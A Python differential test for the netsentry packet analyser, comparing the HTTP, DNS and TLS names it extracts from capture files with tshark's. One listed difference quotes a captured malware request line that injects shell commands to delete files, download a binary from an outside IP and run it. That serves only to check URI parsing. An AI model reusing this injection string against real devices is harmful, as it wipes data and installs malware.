"""Differential test against tshark: the names netsentry extracts are the names tshark extracts.

For every capture of the shared corpus (``../shared/corpus``, or ``NETSENTRY_CORPUS``)
and every capture of the conformance folder (``../shared/conformance``, or
``NETSENTRY_CONFORMANCE``: the FoxIO JA4 pcaps, the suricata-verify TLS/DNS/HTTP tests
and the Community ID pcaps), three sets are compared per file:

- ``http``: HTTP request URIs. tshark ``http.request.uri``; netsentry ``http`` events'
  ``record["url"]``.
- ``dns``: DNS query names from the question section of *every* DNS message, requests and
  responses alike (so captures holding only responses, such as the one-way
  amplification flood, are compared too). tshark ``dns.qry.name`` (which also covers
  mDNS and LLMNR, dissected by the same dissector); netsentry ``dns`` events'
  ``record["queries"][i]["rrname"]``, requests and responses.
- ``tls``: TLS SNIs of ClientHellos. tshark ``tls.handshake.extensions_server_name``
  (only ClientHellos carry it); netsentry ``tls`` events' ``record["sni"]``.

netsentry runs through the real pipeline (``engine.analyze`` with every decoder, as
``netsentry analyze`` runs it); its events are collected by wrapping
``AppLayer.on_packet`` / ``on_flow_end`` for the duration of one call.

tshark runs once per file with the three fields, ``-n`` (no name resolution), a fresh
empty configuration directory (no user preferences) and ``-o
tcp.try_heuristic_first:TRUE``: netsentry picks a TCP decoder by content before port,
so tshark is asked to try its content heuristics (HTTP and TLS over TCP are enabled by
default) before the port table too. Without it tshark reads TLS on port 8080 as HTTP and
an HTTP request sent from port 53 as DNS, and the comparison would measure port tables,
not decoders.

Every difference is listed in ``DIFFERENCES`` with its reason and the exact names on each
side; the test asserts the difference is exactly that, so fixing a listed limitation makes
the test fail until its entry is removed. Names that are not valid UTF-8 are rendered
differently by the two tools (tshark: U+FFFD per invalid sequence, by its own rules;
netsentry: ``\\xNN`` per byte >= 0x80, as Suricata writes them), so such DNS names are
compared with every run of non-ASCII characters (or ``\\xNN`` escapes) collapsed into one
U+FFFD; valid names are compared exactly.

tshark is run for all files in a small thread pool on first use (the module takes about
20-40 s on an idle two-core machine, mostly tshark start-up); the results are kept for the
module. Without tshark (``shutil.which("tshark")`` is None) every test is skipped; CI
installs it.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from netsentry.engine import analyze
from netsentry.protocols.base import AppEvent

SHARED = Path(__file__).resolve().parents[2] / "shared"
CORPUS = Path(os.environ.get("NETSENTRY_CORPUS") or SHARED / "corpus")
CONFORMANCE = Path(os.environ.get("NETSENTRY_CONFORMANCE") or SHARED / "conformance")
HAVE_CORPUS = (CORPUS / "MANIFEST.tsv").is_file()
HAVE_CONFORMANCE = (CONFORMANCE / "README.md").is_file()
TSHARK = shutil.which("tshark")
NO_TSHARK = "tshark not installed (CI installs it: apt-get install tshark)"

KINDS = ("http", "dns", "tls")
TSHARK_FIELDS = {
    "http": "http.request.uri",
    "dns": "dns.qry.name",
    "tls": "tls.handshake.extensions_server_name",
}
TSHARK_FILTER = "http.request or dns.qry.name or tls.handshake.type == 1"
AGGREGATOR = "\x1f"  # between occurrences of a field in one frame (',' occurs in URIs)


class Prefix(str):
    """An expected name given by its start (for a 1025-character damaged name)."""

    __slots__ = ()


@dataclass(frozen=True)
class Difference:
    """A justified difference: why, and exactly which names only one side extracts."""

    reason: str
    tshark_only: frozenset[str] = frozenset()
    netsentry_only: frozenset[str] = frozenset()


_QUIC = (
    "sent only in QUIC Initial packets (UDP/443, TLS ClientHello in encrypted CRYPTO "
    "frames): tshark decrypts QUIC Initials, netsentry does not decode QUIC"
)
_SSDP = (
    "SSDP 'M-SEARCH * HTTP/1.1' over UDP to port 1900: tshark's HTTP dissector also "
    "reads HTTP over UDP (SSDP), netsentry decodes HTTP over TCP only"
)
_CUT_REQUEST = (
    "snaplen 96: frame 4's payload is cut after 'GET /images/sf.net_box.gif HTT' (30 of 496 "
    "bytes captured), so no complete request line exists; tshark still takes the URI from "
    "the cut line, netsentry waits for the line's end, which was never captured"
)
_ARCNET = (
    "link type 129 (ARCNET_LINUX, RFC 1201 framing): tshark decodes it, netsentry counts "
    "every frame as 'unsupported link type 129 (ARCNET_LINUX)'"
)

# (file, kind) -> the justified difference. file is the MANIFEST path for the corpus and
# "conformance/<path>" for the conformance folder.
DIFFERENCES: dict[tuple[str, str], Difference] = {
    ("malware/sv__bug-5437-02.pcap", "http"): Difference(
        "the request line 'GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;"
        "sh+/tmp/arm HTTP/1.1' has an unencoded space in its target: tshark ends the URI at "
        "the first space (and takes the rest as the version), netsentry takes everything up "
        "to the last space before 'HTTP/1.1', as libhtp does for Suricata (allow-space-uri)",
        tshark_only=frozenset({"/shell?cd+/tmp;rm+-rf+*;wget+"}),
        netsentry_only=frozenset(
            {"/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm"}
        ),
    ),
    ("flood/stopddos__amp.dns.RRSIG.fragmented.pcap", "http"): Difference(
        _SSDP + " (frame 3595)", tshark_only=frozenset({"*"})
    ),
    ("conformance/ja4/foxio-ja4/pcap/latest.pcapng", "http"): Difference(
        _SSDP + " (frames 5, 65, 172)", tshark_only=frozenset({"*"})
    ),
    ("decoder-edge/tcpdump__arcnet-rfc1201-arp-icmp-http.pcap", "http"): Difference(
        _ARCNET, tshark_only=frozenset({"/"})
    ),
    ("decoder-edge/tcpdump__arcnet-rfc1201-arp-icmp-http.pcap", "dns"): Difference(
        _ARCNET, tshark_only=frozenset({"tcpdump.org", "163.240.190.146.in-addr.arpa"})
    ),
    ("conformance/community-id/community-id-spec/pcaps/tcp.pcap", "http"): Difference(
        _CUT_REQUEST, tshark_only=frozenset({"/images/sf.net_box.gif"})
    ),
    ("conformance/community-id/community-id-spec/pcaps/combined.pcap.gz", "http"): Difference(
        _CUT_REQUEST + " (the frame of tcp.pcap inside combined.pcap.gz)",
        tshark_only=frozenset({"/images/sf.net_box.gif"}),
    ),
    ("decoder-edge/tcpdump__dns-badlabel.pcap", "dns"): Difference(
        "the only message is a response whose question name runs past 255 labels: tshark "
        "writes the placeholder '<Name too long>' (and flags the packet malformed), "
        "netsentry cannot find the end of the question section and drops the message "
        "('dns: too many labels', 'dns: malformed message')",
        tshark_only=frozenset({"<Name too long>"}),
    ),
    ("decoder-edge/ndpi__malformed_dns.pcap", "dns"): Difference(
        "the responses' second question name is a compression-pointer chain of more than 255 "
        "labels: tshark writes the placeholder '<Name too long>', netsentry keeps the text it "
        "could read, cut at 1025 characters ('dns: too many labels', rrname_truncated)",
        tshark_only=frozenset({"<Name too long>"}),
        netsentry_only=frozenset(
            {Prefix("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.\x00\x00\x00\x00???")}
        ),
    ),
    ("conformance/ja4/foxio-ja4/pcap/socks-https-example.pcap", "tls"): Difference(
        "TLS inside SOCKS4 on port 1080 (3 connections): tshark decodes SOCKS and hands the "
        "tunnelled bytes to TLS; netsentry has no SOCKS decoder and recognizes a protocol "
        "only from the first bytes of each direction (the SOCKS4 CONNECT), so the flows end "
        "up 'failed' and their ClientHellos are never parsed",
        tshark_only=frozenset({"www.example.com"}),
    ),
    ("conformance/ja4/foxio-ja4/pcap/quic-tls-handshake.pcapng", "tls"): Difference(
        _QUIC, tshark_only=frozenset({"www.google.com"})
    ),
    ("conformance/ja4/foxio-ja4/pcap/quic-with-several-tls-frames.pcapng", "tls"): Difference(
        _QUIC, tshark_only=frozenset({"ogs.google.com"})
    ),
    ("conformance/ja4/foxio-ja4/pcap/tls-sni.pcapng", "tls"): Difference(
        _QUIC + " (the other 37 SNIs of this file, TLS over TCP, agree)",
        tshark_only=frozenset(
            {
                "encrypted-tbn0.gstatic.com",
                "history.google.com",
                "lh5.googleusercontent.com",
                "optimizationguide-pa.googleapis.com",
                "update.googleapis.com",
            }
        ),
    ),
    ("conformance/suricata-verify/tests/ja4-quic/input.pcap", "tls"): Difference(
        _QUIC,
        tshark_only=frozenset(
            {
                "1.bp.blogspot.com",
                "2.bp.blogspot.com",
                "4.bp.blogspot.com",
                "apis.google.com",
                "fonts.gstatic.com",
                "socpuppet.blogspot.com",
                "www.blogger.com",
                "www.google.com",
                "www.gstatic.com",
            }
        ),
    ),
}

# Files tshark itself cannot read to the end (exit status 2); what it read before stopping
# is still compared. netsentry reads the same records (see test_corpus.py).
TSHARK_FAILURES: dict[str, str] = {
    "decoder-edge/tcpdump__brcm-tag.pcap": "tshark 4.0: 'pcap: network type 281 unknown or "
    "unsupported' (Broadcom DSA tag), so tshark reads no frame; netsentry decodes it",
    "decoder-edge/sv__bug-6875-01__fuzz.pcap": "damaged on purpose: a record header claims "
    "16711424 bytes",
    "decoder-edge/sv__bug-1450-04__tls_DER-incomplete-header.pcap": "damaged on purpose: a "
    "record header claims 4325376 bytes",
    "decoder-edge/ndpi__fuzz-2021-10-13.pcap": "damaged on purpose: cut in the middle of a packet",
}


@dataclass(frozen=True)
class Capture:
    """One capture file compared."""

    id: str
    path: Path


@dataclass
class TsharkRun:
    """What tshark extracted from one file."""

    returncode: int
    stderr: str
    names: dict[str, set[str]] = field(default_factory=dict)


def _captures() -> list[Capture]:
    captures: list[Capture] = []
    if HAVE_CORPUS:
        with (CORPUS / "MANIFEST.tsv").open(encoding="utf-8", newline="") as f:
            for row in csv.DictReader(f, delimiter="\t"):
                captures.append(Capture(row["file"], CORPUS / row["file"]))
    if HAVE_CONFORMANCE:
        for path in sorted(CONFORMANCE.rglob("*")):
            if path.is_file() and path.name.endswith((".pcap", ".pcapng", ".pcap.gz")):
                rel = path.relative_to(CONFORMANCE).as_posix()
                captures.append(Capture(f"conformance/{rel}", path))
    return captures


CAPTURES = _captures()


def _params() -> list[Any]:
    if not CAPTURES:
        reason = f"neither the corpus ({CORPUS}) nor the conformance folder ({CONFORMANCE}) found"
        return [
            pytest.param(None, "", id="captures-missing", marks=pytest.mark.skip(reason=reason))
        ]
    return [
        pytest.param(capture, kind, id=f"{capture.id}:{kind}")
        for capture in CAPTURES
        for kind in KINDS
    ]


# -- tshark -------------------------------------------------------------------------------


def _run_tshark(path: Path, config_dir: str) -> TsharkRun:
    assert TSHARK is not None
    command = [TSHARK, "-n", "-r", str(path), "-o", "tcp.try_heuristic_first:TRUE"]
    command += ["-T", "fields", "-E", f"aggregator={AGGREGATOR}", "-E", "occurrence=a"]
    for kind in KINDS:
        command += ["-e", TSHARK_FIELDS[kind]]
    command += ["-Y", TSHARK_FILTER]
    env = dict(os.environ, WIRESHARK_CONFIG_DIR=config_dir)
    done = subprocess.run(command, capture_output=True, env=env, timeout=120, check=False)
    run = TsharkRun(done.returncode, done.stderr.decode("utf-8", "replace"))
    run.names = {kind: set() for kind in KINDS}
    for line in done.stdout.decode("utf-8", "surrogateescape").splitlines():
        values = line.split("\t")
        for kind, value in zip(KINDS, values, strict=True):
            if value:
                run.names[kind].update(value.split(AGGREGATOR))
    return run


@pytest.fixture(scope="module")
def tshark_runs() -> Iterator[dict[str, Future[TsharkRun]]]:
    """Every file's tshark run, started in the background on first use."""
    if TSHARK is None:
        pytest.skip(NO_TSHARK)
    workers = max(2, min(4, os.cpu_count() or 1))
    with (
        tempfile.TemporaryDirectory(prefix="netsentry-tshark-") as config_dir,
        ThreadPoolExecutor(max_workers=workers) as pool,
    ):
        runs = {c.id: pool.submit(_run_tshark, c.path, config_dir) for c in CAPTURES}
        yield runs
        for future in runs.values():
            future.cancel()


# -- netsentry ------------------------------------------------------------------------------


def netsentry_events(path: Path) -> list[AppEvent]:
    """Every application event ``engine.analyze`` produces for ``path`` (all decoders)."""
    events: list[AppEvent] = []
    analyze([path], on_event=events.append)
    return events


@cache
def netsentry_names(path: Path) -> dict[str, set[str]]:
    """The three name sets netsentry extracts from ``path``."""
    names: dict[str, set[str]] = {kind: set() for kind in KINDS}
    for event in netsentry_events(path):
        record = event.record
        if event.proto == "http" and "url" in record:
            names["http"].add(record["url"])
        elif event.proto == "dns":
            names["dns"].update(q["rrname"] for q in record.get("queries", ()))
        elif event.proto == "tls" and "sni" in record:
            names["tls"].add(record["sni"])
    return names


# -- comparing ------------------------------------------------------------------------------

_NON_ASCII_RUN = re.compile(r"(?:[^\x00-\x7f]|\\x[0-9a-f]{2})+")


def canonical(kind: str, name: str) -> str:
    """A DNS name that is not valid UTF-8 as both tools can agree on it (module docstring)."""
    if kind == "dns" and ("\ufffd" in name or re.search(r"\\x[89a-f][0-9a-f]", name)):
        return _NON_ASCII_RUN.sub("\ufffd", name)
    return name


def _matches(expected: frozenset[str], actual: set[str]) -> bool:
    """``actual`` is exactly ``expected`` (a :class:`Prefix` stands for one name it starts)."""
    if len(expected) != len(actual):
        return False
    left = set(actual)
    for want in expected:
        hit = next(
            (
                a
                for a in sorted(left)
                if (a.startswith(want) if isinstance(want, Prefix) else a == want)
            ),
            None,
        )
        if hit is None:
            return False
        left.discard(hit)
    return not left


def _show(names: set[str]) -> list[str]:
    return sorted(n if len(n) <= 120 else n[:120] + "..." for n in names)


@pytest.mark.parametrize(("capture", "kind"), _params())
def test_names_equal_tshark(
    capture: Capture, kind: str, tshark_runs: dict[str, Future[TsharkRun]]
) -> None:
    run = tshark_runs[capture.id].result()
    if capture.id in TSHARK_FAILURES:
        assert run.returncode != 0, f"tshark now reads {capture.id}: drop it from TSHARK_FAILURES"
    else:
        assert run.returncode == 0, run.stderr
    theirs = {canonical(kind, n) for n in run.names[kind]}
    ours = {canonical(kind, n) for n in netsentry_names(capture.path)[kind]}
    only_tshark, only_ours = theirs - ours, ours - theirs
    listed = DIFFERENCES.get((capture.id, kind))
    if listed is None:
        assert (_show(only_tshark), _show(only_ours)) == ([], []), (
            f"{kind} names of {capture.id}: (tshark only, netsentry only)"
        )
        return
    assert _matches(listed.tshark_only, only_tshark) and _matches(
        listed.netsentry_only, only_ours
    ), (
        f"the listed difference changed ({listed.reason}); now tshark only: "
        f"{_show(only_tshark)}, netsentry only: {_show(only_ours)}"
    )


def test_listed_differences_name_compared_files() -> None:
    if not CAPTURES:
        pytest.skip("no captures found")
    ids = {c.id for c in CAPTURES}
    stale = [key for key in DIFFERENCES if key[0] not in ids or key[1] not in KINDS]
    stale += [(name, "") for name in TSHARK_FAILURES if name not in ids]
    assert stale == []
    assert all(d.reason and (d.tshark_only or d.netsentry_only) for d in DIFFERENCES.values())


def test_canonical_collapses_only_invalid_names() -> None:
    # tshark: one U+FFFD per invalid sequence; netsentry: \xNN per byte
    assert canonical("dns", "a\ufffdb\ufffd\ufffd.sea") == canonical("dns", "a\\xcab\\xbe\\xee.sea")
    assert canonical("dns", "\u01ffx\ufffd") == canonical("dns", "\\xc7\\xbfx\\xed")
    assert canonical("dns", "b\u00fccher.de") == "b\u00fccher.de"  # valid UTF-8: exact
    assert canonical("http", "/\ufffd") == "/\ufffd"
    assert _matches(frozenset({Prefix("ab")}), {"abc"})
    assert not _matches(frozenset({Prefix("ab")}), {"abc", "abd"})
    assert not _matches(frozenset({"ab"}), {"abc"})
